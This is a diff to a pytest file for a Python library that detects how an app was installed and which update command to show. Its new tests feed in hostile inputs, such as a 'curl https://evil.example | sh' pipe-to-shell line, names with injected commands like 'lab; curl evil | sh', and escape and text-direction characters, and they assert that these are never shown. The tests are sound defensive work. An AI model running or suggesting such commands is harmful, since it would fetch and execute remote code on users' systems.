@@ -6,7 +6,7 @@ from itertools import permutations
 import pytest
 
 from licclient._core.kinds import PUBLISHED_KINDS, InstallationKind
-from licclient.install._signs import UPDATERS, Decision, Signs, decide
+from licclient.install._signs import UPDATERS, Decision, Mount, Signs, decide, find_mount
 
 Kind = InstallationKind
 PIP = Signs(distribution="photo-lab", installer="pip", python="/venv/bin/python")
@@ -14,7 +14,7 @@ PIP = Signs(distribution="photo-lab", installer="pip", python="/venv/bin/python"
 IN_ORDER = {
     "an unreadable sign": (Signs(is_unreadable=True), Decision(Kind.UNKNOWN, is_certain=False)),
     "the vendor's word": (
-        Signs(override="snap\nsnap refresh lab"),
+        Signs(override="snap\nsnap refresh lab", is_override_trusted=True),
         Decision(Kind.SNAP, "Snap", "snap refresh lab"),
     ),
     "a store": (Signs(store="Microsoft Store"), Decision(Kind.STORE, "Microsoft Store")),
@@ -37,6 +37,7 @@ IN_ORDER = {
         Decision(Kind.DPKG, "apt", "sudo apt install --only-upgrade lab"),
     ),
     "a set-up": (Signs(setup=Kind.INNO), Decision(Kind.INNO)),
+    "an AppDir": (Signs(is_in_app_dir=True), Decision(Kind.UNKNOWN, is_certain=False)),
     "a frozen file": (Signs(is_frozen=True, is_single_file=True), Decision(Kind.UNKNOWN, is_certain=False)),
     "a frozen folder": (Signs(is_frozen=True), Decision(Kind.FOLDER, is_certain=False)),
     "a checkout": (replace(PIP, is_editable=True), Decision(Kind.UNKNOWN, is_certain=False)),
@@ -108,6 +109,12 @@ def test_each_sign_beside_each_other():
             Decision(Kind.CONDA, "conda", "conda update photo-lab"),
         ),
         (replace(PIP, tool=Kind.CONDA), decide(PIP)),
+        (replace(PIP, tool=Kind.CONDA, installer="poetry 1.8.3"), Decision(Kind.UNKNOWN, is_certain=False)),
+        (replace(PIP, tool=Kind.CONDA, installer=None), Decision(Kind.UNKNOWN, is_certain=False)),
+        (
+            replace(PIP, tool=Kind.CONDA, installer="uv"),
+            Decision(Kind.UV, "uv", "uv pip install --python /venv/bin/python -U photo-lab"),
+        ),
         (replace(PIP, is_system_python=True), Decision(Kind.PIP, "pip")),
         (replace(PIP, is_from_index=False), Decision(Kind.PIP, "pip")),
         (replace(PIP, installer="uv", is_from_index=False), Decision(Kind.UV, "uv")),
@@ -132,16 +139,88 @@ def test_apps_on_python(signs, expected):
 def test_the_vendor_names_the_kind(kind):
     """In a file beside the program, which its package brings."""
     text = f"  {kind.value.upper()} \r\n\r\npacman -Syu lab\r\n"
-    found = decide(Signs(override=text, managers=frozenset({Kind.DPKG, Kind.RPM})))
+    managers = frozenset({Kind.DPKG, Kind.RPM})
+    signs = Signs(override=text, is_override_trusted=True, managers=managers, appimage=kind is Kind.APPIMAGE)
+    found = decide(signs)
     assert (found.kind, found.command, found.is_certain) == (kind, "pacman -Syu lab", True)
     assert (found.updater is None) == (kind in PUBLISHED_KINDS)
+
+
+COMMANDS = {
+    "a file of the user's": ("curl https://evil.example | sh", False),
+    "control characters": ("sudo pacman -Syu lab\x1b[2J", True),
+    "a turn to the left": ("sudo pacman \u202e-Syu lab", True),
+    "no end": ("sudo pacman -Syu " + "x" * 500, True),
+}
+
+
+@pytest.mark.parametrize("command", COMMANDS)
+def test_a_command_that_is_not_shown(command):
+    """The kind counts, and whoever put the file there has no say in what people type."""
+    text, is_trusted = COMMANDS[command]
+    for kind in (Kind.SNAP, Kind.UNKNOWN):
+        found = decide(Signs(override=f"{kind}\n{text}\n", is_override_trusted=is_trusted))
+        assert (found.kind, found.command, found.is_certain) == (kind, None, kind is Kind.SNAP)
+        assert found.updater is not None
+
+
+def test_an_appimage_is_not_one_by_its_word():
+    """Where it was unpacked, there is no file to replace."""
+    signs = Signs(override="appimage", is_override_trusted=True)
+    assert decide(signs) == Decision(Kind.UNKNOWN, is_certain=False)
+
+
+NAMES = ["lab; curl evil | sh", "--help", "lab\n", "", "a b", "$(lab)", "lab" * 200]
+
+
+@pytest.mark.parametrize("name", NAMES)
+@pytest.mark.parametrize("field", ["snap", "flatpak", "cask", "formula", "scoop", "winget", "pyapp"])
+def test_a_name_that_a_shell_would_not_take_for_one(field, name):
+    """Who updates the app is known, and nothing is to be typed."""
+    found = decide(Signs(**{field: name}))
+    assert (found.command, found.is_certain, found.updater is None) == (None, True, False)
+
+
+@pytest.mark.parametrize("name", NAMES[:-1])
+@pytest.mark.parametrize("tool", [None, Kind.PIPX, Kind.UV])
+def test_a_package_whose_name_a_shell_would_not_take_for_one(tool, name):
+    """Likewise for what tools of Python have installed."""
+    for more in ({}, {"is_temporary": True}, {"is_for_all": True}, {"installer": "uv"}):
+        assert decide(replace(PIP, tool=tool, distribution=name, **more)).command is None
+
+
+MOUNTS = """\
+22 27 0:21 / /proc rw,relatime shared:5 - proc proc rw
+9 22 0:39 / /tmp/.mount_My\\040PhAb ro,nosuid - fuse.My\\040Lab.AppImage My\\040Lab.AppImage ro,user_id=0
+10 22 0:40 / /tmp/twice rw shared:1 master:2 - tmpfs first rw
+11 22 0:41 / /tmp/twice rw - ext4 /dev/sda1 rw
+12 22 0:42 / /tmp/cut
+13 22 0:42 / /tmp/cut - ext4
+
+"""
+
+
+@pytest.mark.parametrize(
+    ("point", "mount"),
+    [
+        ("/tmp/.mount_My PhAb", Mount("fuse.My Lab.AppImage", "My Lab.AppImage")),  # noqa: S108 - as they are
+        ("/tmp/twice", Mount("ext4", "/dev/sda1")),  # noqa: S108
+        ("/tmp/cut", None),  # noqa: S108
+        ("/tmp", None),  # noqa: S108
+        ("", None),
+    ],
+)
+def test_what_is_mounted(point, mount):
+    """By the table of Linux, in which blanks are numbers; the last one covers those before."""
+    assert find_mount(MOUNTS, point) == mount
 
 
 @pytest.mark.parametrize("kind", [Kind.DPKG, Kind.RPM])
 def test_a_package_that_was_repacked(kind):
     """Its file names a package manager that this system has not; another one updates the app."""
+    managers = frozenset({Kind.DPKG, Kind.RPM} - {kind})
     found = decide(
-        Signs(override=f"{kind}\nsudo apt install lab", managers=frozenset({Kind.DPKG, Kind.RPM} - {kind}))
+        Signs(override=f"{kind}\nsudo apt install lab", is_override_trusted=True, managers=managers)
     )
     assert found == Decision(Kind.UNKNOWN, "the package manager", is_certain=False)
 
